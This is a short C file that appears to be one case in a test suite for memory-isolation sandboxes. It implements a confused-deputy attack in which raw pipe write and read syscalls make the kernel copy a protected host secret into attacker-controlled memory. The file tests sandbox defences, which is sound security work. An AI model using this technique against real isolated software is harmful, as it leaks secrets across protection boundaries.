/* Tries: to have the kernel read the secret for it: a write from the host's memory
 * From: CWE-441; PKU Pitfalls (Connor et al., USENIX Security 2020)
 * Observed: The secret in what the call gave back.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    int ends[2];
    if (kernel3(SYS_pipe, ADDRESS(ends), 0, 0))
        return 1;
    kernel3(SYS_write, (uint64_t)ends[1], at->secret_global, SECRET_SIZE);
    kernel3(SYS_read, (uint64_t)ends[0], ADDRESS(at->loot), SECRET_SIZE);
    kernel3(SYS_close, (uint64_t)ends[0], 0, 0);
    kernel3(SYS_close, (uint64_t)ends[1], 0, 0);
    return 0;
}
